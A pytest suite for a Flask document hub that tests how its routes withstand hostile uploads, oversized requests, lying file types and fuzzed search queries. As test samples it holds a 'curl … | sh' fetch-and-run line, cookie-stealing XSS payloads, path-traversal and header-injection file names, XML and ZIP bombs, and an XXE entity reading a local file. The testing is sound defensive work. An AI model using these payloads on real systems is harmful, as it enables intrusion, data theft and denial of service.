"""Hostile input: oversized requests, lying files, hostile names, bombs, fuzzed searches.

What is already covered elsewhere is not repeated here:
- sniffing and extraction of each shared file, bombs and entities at the extraction
  level: tests/test_extraction.py;
- an upload over the limit on the upload page, a program or garbage refused, unsafe
  ZIPs in bulk import: tests/test_web_staff.py.
Here the same dangers come through the web routes, end to end.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import HealthCheck
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st
from sqlalchemy import func
from sqlalchemy import select

from knowledge_hub import extraction
from knowledge_hub.extensions import db
from knowledge_hub.models import Document
from knowledge_hub.models import StoredFile
from knowledge_hub.services import documents
from knowledge_hub.services.documents import safe_file_name
from knowledge_hub.storage import BlobStore
from knowledge_hub.web import security
from tests.conftest import shared_data
from tests.test_extraction import CONTENT_TYPES
from tests.test_extraction import W_NS
from tests.test_extraction import write_docx
from tests.test_extraction_office import build_cfb
from tests.test_extraction_office import cyclic_difat_cfb
from tests.test_extraction_office import nested_records_ppt
from tests.test_extraction_office import ods_bytes
from tests.test_extraction_office import repeated_cells_ods
from tests.test_extraction_office import sparse_xlsx
from tests.test_extraction_office import word97_stream
from tests.test_web_staff import make_record
from tests.test_web_staff import staff  # noqa: F401 (a fixture)
from tests.test_web_staff import staff_app  # noqa: F401 (a fixture)

# --- helpers ------------------------------------------------------------------------


def post_files(client: FlaskClient, document_id: int, *files: tuple, follow: bool = True):
    """Upload (bytes, name[, content type]) files to the English version."""
    return client.post(
        f"/staff/{document_id}/versions/en/upload",
        data={"files": [(io.BytesIO(f[0]), *f[1:]) for f in files]},
        content_type="multipart/form-data",
        follow_redirects=follow,
    )


def stored_files(app: Flask) -> list[StoredFile]:
    with app.app_context():
        rows = db.session.scalars(select(StoredFile).order_by(StoredFile.id)).all()
        db.session.expunge_all()
        return list(rows)


def download(client: FlaskClient, document_id: int, file_id: int):
    response = client.get(f"/documents/{document_id}/files/{file_id}")
    response.close()
    return response


def assert_safe_disposition(value: str) -> None:
    assert value.startswith("attachment;")
    assert "\r" not in value and "\n" not in value and "\x00" not in value
    assert "/" not in value and "\\" not in value and ".." not in value
    assert "\u202e" not in value and "%E2%80%AE" not in value.upper()
    value.encode("latin-1")  # a header value a server can send


def a_text(words: str = "Social and solidarity economy.") -> bytes:
    return words.encode()


# --- request size and form parts ----------------------------------------------------


@pytest.mark.slow
def test_an_oversized_body_is_413_on_every_kind_of_route(
    staff_app: Flask,
    staff: FlaskClient,  # noqa: F811
) -> None:
    document_id = make_record(staff_app)
    staff_app.config["MAX_CONTENT_LENGTH"] = 4096
    big = io.BytesIO(b"x" * 10_000)
    # The bulk import page says so in its own words (the upload page: test_web_staff).
    response = staff.post(
        "/staff/import",
        data={"manifest": (big, "manifest.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 413
    assert "The upload is too large" in response.get_data(as_text=True)
    # A plain form elsewhere gets the error page, not a server error.
    response = staff.post(f"/staff/{document_id}/edit", data={"title": "x" * 10_000})
    assert response.status_code == 413
    html = response.get_data(as_text=True)
    assert "<html" in html and "Something went wrong" not in html
    # The sign-in form, before anyone is known.
    response = staff_app.test_client().post("/auth/login", data={"email": "x" * 10_000})
    assert response.status_code == 413
    assert "Something went wrong" not in response.get_data(as_text=True)
    assert stored_files(staff_app) == []


def test_too_many_form_parts_are_refused(
    staff_app: Flask,
    staff: FlaskClient,  # noqa: F811
) -> None:
    document_id = make_record(staff_app)
    staff_app.config["MAX_FORM_PARTS"] = 50
    # Text parts: werkzeug leaves the files it spooled before giving up for the collector.
    fields = {f"f{n}": "x" for n in range(60)}
    response = staff.post(
        f"/staff/{document_id}/versions/en/upload",
        data={**fields, "files": (io.BytesIO(a_text()), "note.txt")},
        content_type="multipart/form-data",
    )
    assert response.status_code in (400, 413)
    assert "Something went wrong" not in response.get_data(as_text=True)
    assert stored_files(staff_app) == []
    # The default limit (1,000) holds on the sign-in form too, before any password check.
    staff_app.config["MAX_FORM_PARTS"] = 1_000
    fields = {f"f{n}": "x" for n in range(1_100)}
    response = staff.post(
        "/auth/login", data={**fields, "email": "x@hub.test"}, content_type="multipart/form-data"
    )
    assert response.status_code in (400, 413)
    # A single text field larger than the form memory limit.
    staff_app.config["MAX_FORM_MEMORY_SIZE"] = 1000
    response = staff.post(
        f"/staff/{document_id}/edit",
        data={"title": "t" * 5000},
        content_type="multipart/form-data",
    )
    assert response.status_code == 413


# --- type confusion -----------------------------------------------------------------

DOCX_LABEL = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

#: Every accepted type from the shared material, renamed and sent with a lying type.
ACCEPTED = [
    ("files/pdf-raw_text.pdf", "cat.png", "image/png", extraction.PDF),
    ("files/no_ext-pdf_standardized_text", "notes.txt", "text/plain", extraction.PDF),
    ("files/docx-raw_text.docx", "slides.pptx", "application/pdf", extraction.DOCX),
    ("files/no_ext-docx_paragraphs_and_tables", "table.odt", "image/jpeg", extraction.DOCX),
    ("files/odt-raw_text.odt", "paper.docx", "application/msword", extraction.ODT),
    ("files/html-raw_text.html", "page.pdf", "application/pdf", extraction.HTML),
    ("files/txt-raw_text.txt", "plain.pdf", "application/pdf", extraction.PLAIN),
    ("files/txt-raw_text.txt", "readme.md", "application/octet-stream", extraction.MARKDOWN),
    ("files/rtf-raw_text.rtf", "letter.txt", "text/plain", extraction.RTF),
    ("files/epub-raw_text.epub", "book.zip", "application/zip", extraction.EPUB),
    ("files/pptx-raw_text.pptx", "deck.docx", "text/html", extraction.PPTX),
    ("files/doc-raw_text.doc", "old.pdf", "application/pdf", extraction.DOC),
    ("files/png-raw_text.png", "scan.jpg", "image/jpeg", extraction.PNG),
    ("realfiles/tika__testEXCEL.xlsx", "budget.docx", DOCX_LABEL, extraction.XLSX),
    ("realfiles/tika__testEXCEL.xls", "budget.doc", "application/msword", extraction.XLS),
    ("realfiles/tika__test-columnar.ods", "members.odt", "text/csv", extraction.ODS),
    ("realfiles/tika__testPPT.ppt", "deck.doc", "application/msword", extraction.PPT),
    ("realfiles/tika__testMasterFooter.odp", "talk.pdf", "application/pdf", extraction.ODP),
]


def _zip() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("a.txt", "hello")
    return data.getvalue()


def _jpeg_and_tiff() -> list[tuple[bytes, str, str, str]]:
    from PIL import Image

    out = []
    for fmt, media_type in (("JPEG", extraction.JPEG), ("TIFF", extraction.TIFF)):
        data = io.BytesIO()
        Image.new("RGB", (8, 8), "white").save(data, fmt)
        out.append((data.getvalue(), f"image-{fmt.lower()}.pdf", "application/pdf", media_type))
    return out


#: Refused kinds, each with a name and type pretending to be a document.
ELF = Path("/bin/true")
REFUSED = [
    (
        ELF.read_bytes() if ELF.is_file() else b"\x7fELF\x02\x01\x01" + bytes(64),
        "report.pdf",
        "application/pdf",
        "ELF executable",
    ),
    (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(500) + b"PE\x00\x00",
        "brief.docx",
        DOCX_LABEL,
        "Windows program",
    ),
    (b"#!/bin/sh\ncurl http://example.org/x | sh\n", "notes.txt", "text/plain", "script"),
    (_zip(), "paper.docx", DOCX_LABEL, "ZIP archive"),
    (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>alert(document.cookie)</script></svg>",
        "chart.png",
        "image/png",
        "SVG image",
    ),
    (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00"
        b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
        "photo.jpg",
        "image/jpeg",
        "GIF image",
    ),
    (
        build_cfb({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x00" * 64}),
        "locked.docx",
        DOCX_LABEL,
        "password-protected Office document",
    ),
    (cyclic_difat_cfb(), "report.doc", "application/msword", "damaged Microsoft Office file"),
]


@pytest.mark.slow
def test_accepted_types_are_stored_with_the_sniffed_type_whatever_the_name_or_label(
    staff_app: Flask,
    staff: FlaskClient,  # noqa: F811
) -> None:
    document_id = make_record(staff_app)
    cases = [
        (shared_data(*source.split("/")).read_bytes(), name, label, expected)
        for source, name, label, expected in ACCEPTED
    ]
    # The same bytes twice on one version are refused: the Markdown case gets its own.
    cases[7] = (cases[7][0] + b"\n# Markdown now\n", *cases[7][1:])
    cases += _jpeg_and_tiff()
    assert {c[3] for c in cases} == set(extraction.ACCEPTED_TYPES)
    response = post_files(staff, document_id, *[c[:3] for c in cases])
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "was refused" not in html
    by_name = {f.original_name: f for f in stored_files(staff_app)}
    for __, name, __, expected in cases:
        assert by_name[name].media_type == expected, name
        # The download says what the bytes are, not what the uploader claimed.
        answer = download(staff, document_id, by_name[name].id)
        assert answer.mimetype == expected
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.slow
@pytest.mark.parametrize("content,name,label,what", REFUSED, ids=[r[3] for r in REFUSED])
def test_refused_types_are_refused_whatever_the_name_or_label(
    staff_app: Flask,  # noqa: F811
    staff: FlaskClient,  # noqa: F811
    content: bytes,
    name: str,
    label: str,
    what: str,
) -> None:
    document_id = make_record(staff_app)
    html = post_files(staff, document_id, (content, name, label)).get_data(as_text=True)
    assert f"{name} was refused: This file looks like a" in html
    assert what.split()[0] in html
    assert "Accepted types are: PDF" in html
    assert stored_files(staff_app) == []
    assert not any(p.is_file() for p in Path(staff_app.config["UPLOAD_DIR"]).rglob("*"))


# --- hostile file names -------------------------------------------------------------

HOSTILE_NAMES = {
    "../../etc/passwd": "passwd",
    "..\\..\\windows\\win.ini": "win.ini",
    "/absolute/report.txt": "report.txt",
    "..": "upload",
    "nul\x00byte.txt": "nulbyte.txt",
    "bell\x07and\x1bescape\x7f.txt": "bellandescape.txt",
    "line\r\nX-Evil: 1\r\n.txt": "lineX-Evil: 1.txt",
    "invoice\u202efdp.exe.txt": "invoicefdp.exe.txt",
    "  spaced   out  .txt": "spaced out .txt",
}


@pytest.mark.slow
def test_hostile_names_are_stored_under_the_hash_and_recorded_clean(
    staff_app: Flask,
    staff: FlaskClient,
    tmp_path: Path,  # noqa: F811
) -> None:
    document_id = make_record(staff_app)
    long_name = "a" * 1_000 + ".txt"
    names = [*HOSTILE_NAMES, long_name]
    with staff_app.test_request_context():
        from knowledge_hub.models import Variant

        variant = db.session.scalar(select(Variant).where(Variant.document_id == document_id))
        actor = db.session.scalar(select(documents.User).where(documents.User.id == 1))
        # Through the service: a browser or a client library can send any of these names.
        outcomes = documents.upload_files(
            actor,
            variant,
            [(name, io.BytesIO(a_text(f"text {n}"))) for n, name in enumerate(names)],
        )
    assert all(o.stored for o in outcomes), [o.error for o in outcomes]
    recorded = [o.name for o in outcomes]
    assert recorded[: len(HOSTILE_NAMES)] == list(HOSTILE_NAMES.values())
    assert len(recorded[-1]) == 255 and recorded[-1].endswith("aaa.txt")
    files = stored_files(staff_app)
    assert [f.original_name for f in files] == recorded
    # Every blob is at the place of its hash; nothing was written anywhere else.
    store = BlobStore(staff_app.config["UPLOAD_DIR"])
    on_disk = {p for p in Path(staff_app.config["UPLOAD_DIR"]).rglob("*") if p.is_file()}
    assert on_disk == {store.path(f.sha256) for f in files}
    assert not (tmp_path / "etc").exists()
    assert not Path("/etc/passwd").read_text().startswith("text")
    for f in files:
        assert_safe_disposition(download(staff, document_id, f.id).headers["Content-Disposition"])


@pytest.mark.slow
def test_hostile_names_through_the_upload_form(
    staff_app: Flask,
    staff: FlaskClient,  # noqa: F811
) -> None:
    document_id = make_record(staff_app)
    names = ["../../etc/passwd", "evil\u202egnp.js.txt", "x" * 1_000 + ".txt", "tab\there.txt"]
    response = post_files(staff, document_id, *[(a_text(n), n) for n in names])
    assert response.status_code == 200
    files = stored_files(staff_app)
    assert len(files) == len(names)
    for f in files:
        assert f.original_name == safe_file_name(f.original_name)
        assert "/" not in f.original_name and "\u202e" not in f.original_name
        assert len(f.original_name) <= 255
        assert_safe_disposition(download(staff, document_id, f.id).headers["Content-Disposition"])


@pytest.mark.parametrize(
    "name",
    ["", ".", "...", " ", "\x00", "\u202e", "a/b/", "C:\\x\\", "é" * 300, "x." + "y" * 40],
)
def test_safe_file_name_never_gives_an_empty_or_path_like_name(name: str) -> None:
    safe = safe_file_name(name)
    assert safe and len(safe) <= 255 and "/" not in safe and safe not in (".", "..")
    assert safe == safe_file_name(safe)


# --- bombs through the upload route --------------------------------------------------


def _bombs(tmp_path: Path) -> list[tuple[bytes, str]]:
    bomb = tmp_path / "bomb.docx"
    write_docx(
        bomb,
        f'<w:document xmlns:w="{W_NS}"><w:body>'.encode()
        + b" " * (64 * 1024 * 1024)
        + b"</w:body></w:document>",
    )
    entities = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
    laughs = tmp_path / "laughs.docx"
    write_docx(
        laughs,
        (
            f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY lol0 "lol">{entities}]>'
            f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
            "</w:body></w:document>"
        ).encode(),
    )
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-MARKER-55120", encoding="utf-8")
    leak = io.BytesIO()
    with zipfile.ZipFile(leak, "w") as archive:
        archive.writestr("mimetype", extraction.ODT, compress_type=zipfile.ZIP_STORED)
        archive.writestr(
            "content.xml",
            f'<?xml version="1.0"?><!DOCTYPE office:document-content ['
            f'<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
            "<office:document-content"
            ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
            ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
            "<office:body><office:text><text:p>&leak;</text:p></office:text></office:body>"
            "</office:document-content>",
            compress_type=zipfile.ZIP_DEFLATED,
        )
    assert CONTENT_TYPES  # the DOCX parts come from test_extraction's builder
    return [
        (bomb.read_bytes(), "bomb.docx"),
        (laughs.read_bytes(), "laughs.docx"),
        (leak.getvalue(), "leak.odt"),
    ]


@pytest.mark.slow
def test_zip_and_xml_bombs_are_stored_with_the_extraction_error(
    staff_app: Flask,
    staff: FlaskClient,
    tmp_path: Path,  # noqa: F811
) -> None:
    document_id = make_record(staff_app)
    response = post_files(staff, document_id, *_bombs(tmp_path))
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    for name in ("bomb.docx", "laughs.docx", "leak.odt"):
        assert f"{name} is stored" in html and "could not be extracted" in html
    files = {f.original_name: f for f in stored_files(staff_app)}
    assert files["bomb.docx"].extraction_error.startswith("The file looks like a ZIP bomb")
    assert "entities are not allowed" in files["laughs.docx"].extraction_error
    assert "entities are not allowed" in files["leak.odt"].extraction_error
    assert all("SECRET-MARKER" not in (f.text or "") for f in files.values())
    assert not list(Path(staff_app.config["UPLOAD_DIR"]).glob(".upload-*"))


@pytest.mark.slow
def test_hostile_office_files_are_stored_with_their_text_or_a_reason(
    staff_app: Flask,
    staff: FlaskClient,  # noqa: F811
) -> None:
    document_id = make_record(staff_app)
    word, clx = word97_stream([("Secret minutes\r", True)], flags=0x0300)  # encrypted
    files = [
        # Two cells 17 billion apart: the sheet is left out, the other one read.
        (sparse_xlsx("XFD1048576"), "sparse.xlsx"),
        # 1 KB asking for 10 million filled cells.
        (repeated_cells_ods(), "repeated.ods"),
        # 100,000 nested records claiming 4 GB each.
        (nested_records_ppt(), "nested.ppt"),
        (build_cfb({"WordDocument": word, "1Table": clx}), "locked.doc"),
        (ods_bytes("", encrypted=True, mimetype=extraction.ODP), "locked.odp"),
    ]
    response = post_files(staff, document_id, *files)
    assert response.status_code == 200
    assert "was refused" not in response.get_data(as_text=True)
    stored = {f.original_name: f for f in stored_files(staff_app)}
    assert stored["sparse.xlsx"].media_type == extraction.XLSX
    assert stored["sparse.xlsx"].text == "Near\nNear by 2"
    assert stored["sparse.xlsx"].extraction_error.startswith("Some sheets were too large")
    assert stored["repeated.ods"].text == "Members\nName\nCountry\nx"
    assert stored["nested.ppt"].text == "Still found"
    password = "protected by a password, so its text cannot be read: upload an unprotected copy."
    assert stored["locked.doc"].extraction_error == f"The Word document is {password}"
    assert stored["locked.odp"].extraction_error == f"The OpenDocument presentation is {password}"
    assert "Secret" not in (stored["locked.doc"].text or "")


# --- active content is only ever an attachment ---------------------------------------


def test_uploaded_html_and_svg_are_served_only_as_attachments(
    staff_app: Flask,
    staff: FlaskClient,  # noqa: F811
) -> None:
    document_id = make_record(staff_app)
    page = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
    post_files(staff, document_id, (page, "page.html", "text/html"))
    # An SVG cannot be uploaded any more; one stored before (or by other means) is still
    # never shown inline.
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    with staff_app.test_request_context():
        from knowledge_hub.models import Variant

        variant = db.session.scalar(select(Variant).where(Variant.document_id == document_id))
        blob = documents.blob_store().put_file(_write(staff_app, svg), max_size=None)
        db.session.add(
            StoredFile(
                variant=variant,
                sha256=blob.sha256,
                size=blob.size,
                media_type="image/svg+xml",
                original_name="chart.svg",
            )
        )
        db.session.commit()
    files = {f.original_name: f for f in stored_files(staff_app)}
    assert files["page.html"].media_type == "text/html"
    for name, media_type in (("page.html", "text/html"), ("chart.svg", "image/svg+xml")):
        response = download(staff, document_id, files[name].id)
        assert response.status_code == 200 and response.mimetype == media_type
        assert response.headers["Content-Disposition"].startswith("attachment;")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        policy = response.headers["Content-Security-Policy"]
        assert policy.startswith("sandbox") and "default-src 'none'" in policy


def _write(app: Flask, data: bytes) -> Path:
    path = Path(app.config["UPLOAD_DIR"]).parent / "svg-source"
    path.write_bytes(data)
    return path


# --- fuzzed search parameters --------------------------------------------------------

PARAMETERS = [
    "q",
    "page",
    "per_page",
    "sort",
    "kind",
    "type",
    "year",
    "language",
    "organization",
    "topic",
    "region",
    "lang",
]

any_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40)
# Values that parsers trip on: numbers at the edges, query syntax, odd Unicode.
tricky = st.sampled_from(
    [
        "",
        "0",
        "-1",
        "1e9",
        "99999999999999999999",
        "NaN",
        "1.5",
        " 2",
        "٣",
        "²",
        "*",
        "?",
        "AND",
        "OR NOT",
        '"',
        '"unclosed',
        "(",
        ")",
        "[",
        "[a TO",
        "{",
        "a:b",
        "title:",
        "*:*",
        "~",
        "^2",
        "\\",
        "%",
        "%00",
        "\x00",
        "\u202e",
        "\ufeff",
        "\U0001f600",
        "ﷺ",
        "ａｂｃ",
        "relevance",
        "newest",
        "oldest",
        "en",
        "ar",
        "zh",
        "xx",
        "publication",
        "archive",
        "2024",
        "1800",
        "ILO",
        "sdg-8",
        "002",
        "a" * 2000,
    ]
)
value = st.one_of(tricky, any_text)
query = st.lists(st.tuples(st.sampled_from(PARAMETERS), value), max_size=8)


@pytest.fixture
def catalogue(app: Flask, import_rows) -> Flask:
    report = import_rows(
        [
            dict(
                ref="PB-2024-01",
                language="en",
                title="Cooperatives and decent work",
                type="policy-brief",
                date="2024-03",
                organizations="ILO",
                topics="cooperatives",
                regions="002",
                content="Cooperatives create decent work.",
            ),
            dict(
                ref="PB-2024-01",
                language="fr",
                title="Coopératives et travail décent",
                content="Les coopératives créent du travail décent.",
            ),
            dict(
                ref="WP-2021-02",
                language="ar",
                title="الاقتصاد الاجتماعي والتضامني",
                type="working-paper",
                date="2021",
                organizations="UNRISD",
                content="الاقتصاد الاجتماعي والتضامني في الممارسة.",
            ),
        ]
    )
    assert report.failed == 0, [str(r) for r in report.rows]
    return app


FUZZ = settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.mark.slow
@FUZZ
@given(args=query)
def test_fuzzed_search_page_answers_200_400_or_404(catalogue: Flask, args) -> None:
    client = catalogue.test_client()
    response = client.get("/search", query_string=args)
    assert response.status_code in (200, 400, 404), (args, response.status_code)
    page = response.get_data(as_text=True)
    assert "Something went wrong" not in page
    # 404 is a page past the last one of the search, which says so (in the reader's
    # language) and links to the last page.
    if response.status_code == 404:
        assert 'role="alert"' in page and '<p><a href="/search' in page


@pytest.mark.slow
@FUZZ
@given(args=query)
def test_fuzzed_search_api_answers_200_or_400(catalogue: Flask, args) -> None:
    client = catalogue.test_client()
    response = client.get("/api/search", query_string=args)
    assert response.status_code in (200, 400), (args, response.status_code)
    body = response.get_json()
    assert body is not None and ("results" in body or body["error"] == "bad_request")


@pytest.mark.slow
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(raw=st.lists(st.tuples(st.sampled_from(PARAMETERS), st.binary(max_size=20)), max_size=5))
def test_undecodable_query_bytes_answer_200_400_or_404(catalogue: Flask, raw) -> None:
    # Percent-encoded bytes that are not UTF-8, straight into the query string.
    query_string = "&".join(f"{name}={quote(data, safe='')}" for name, data in raw)
    client = catalogue.test_client()
    for path in ("/search", "/api/search"):
        response = client.get(f"{path}?{query_string}")
        # The page may also be past the last one of its search (a 404 that says so);
        # the API answers such a page with its total and no results.
        allowed = (200, 400, 404) if path == "/search" else (200, 400)
        assert response.status_code in allowed, (path, query_string, response.status_code)
        if response.status_code == 404:
            assert 'role="alert"' in response.get_data(as_text=True)


# --- security headers --------------------------------------------------------------


def assert_security_headers(response) -> None:
    headers = response.headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
    assert headers["X-Frame-Options"] == "DENY"
    policy = headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in policy
    if not policy.startswith("sandbox"):
        assert policy == security.CONTENT_SECURITY_POLICY
        assert "unsafe-inline" not in policy and "script-src 'self'" in policy


@pytest.mark.slow
def test_security_headers_on_a_page_an_api_answer_an_error_and_a_download(
    staff_app: Flask,
    staff: FlaskClient,  # noqa: F811
) -> None:
    document_id = make_record(staff_app)
    post_files(staff, document_id, (a_text(), "note.txt"))
    (stored,) = stored_files(staff_app)
    for response in (
        staff.get("/"),
        staff.get(f"/staff/{document_id}/versions"),
        staff.get("/api/search?q=economy"),
        staff.get("/no/such/page"),
        staff.get("/api/documents/999"),
        download(staff, document_id, stored.id),
    ):
        assert_security_headers(response)
        assert "Strict-Transport-Security" not in response.headers


TEMPLATES = Path(__file__).resolve().parents[1] / "knowledge_hub" / "templates"


def test_no_template_carries_inline_script_style_or_handlers() -> None:
    """The policy forbids inline code: a template that needs it would break silently.
    Mail is not a page the hub serves: mail readers ignore style sheets, so its HTML
    carries its few styles inline, and no script at all."""
    for path in TEMPLATES.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        if path.parent.name == "mail":
            assert "<script" not in text.lower(), f"script in mail {path.name}"
            assert not re.search(r"\son[a-z]+\s*=", text, re.I), f"event handler in {path.name}"
            continue
        for match in re.finditer(r"<script\b([^>]*)>(.*?)</script>", text, re.DOTALL | re.I):
            attributes, body = match.groups()
            assert 'type="application/ld+json"' in attributes or (
                "src=" in attributes and not body.strip()
            ), f"inline script in {path.name}"
        assert not re.search(r"\sstyle\s*=", text, re.I), f"inline style in {path.name}"
        assert not re.search(r"<style\b", text, re.I), f"style element in {path.name}"
        assert not re.search(r"\son[a-z]+\s*=", text, re.I), f"event handler in {path.name}"
        assert "javascript:" not in text.lower(), f"javascript: URL in {path.name}"


def test_the_landing_page_json_ld_cannot_end_its_script(app: Flask, import_rows) -> None:
    report = import_rows(
        [
            dict(
                ref="PB-2024-09",
                language="en",
                title="</script><script>alert(1)</script>",
                type="policy-brief",
                date="2024",
                organizations="ILO",
                content="Harmless text.",
            ),
        ]
    )
    assert report.failed == 0, [str(r) for r in report.rows]
    with app.app_context():
        document_id = db.session.scalar(select(func.min(Document.id)))
    response = app.test_client().get(f"/documents/{document_id}")
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    # One script element of data, the JSON-LD; the others load the hub's own files.
    scripts = re.findall(r"<script\b([^>]*)>", html)
    assert [a for a in scripts if "src=" not in a] == [' type="application/ld+json"']
    assert "<script>alert(1)" not in html
    assert_security_headers(response)


def test_text_with_nul_characters_is_refused_not_stored(app, client) -> None:
    """PostgreSQL cannot store NUL in text; every surface refuses it with a 400."""
    assert client.get("/search", query_string={"q": "co\x00op"}).status_code == 400
    login = client.post("/auth/login", data={"email": "a\x00@b.org", "password": "x"})
    assert login.status_code == 400
    response = client.post("/api/documents", json={"ref": "X\x00", "title": "t"})
    assert response.status_code == 400
    assert response.get_json()["error"] == "bad_request"
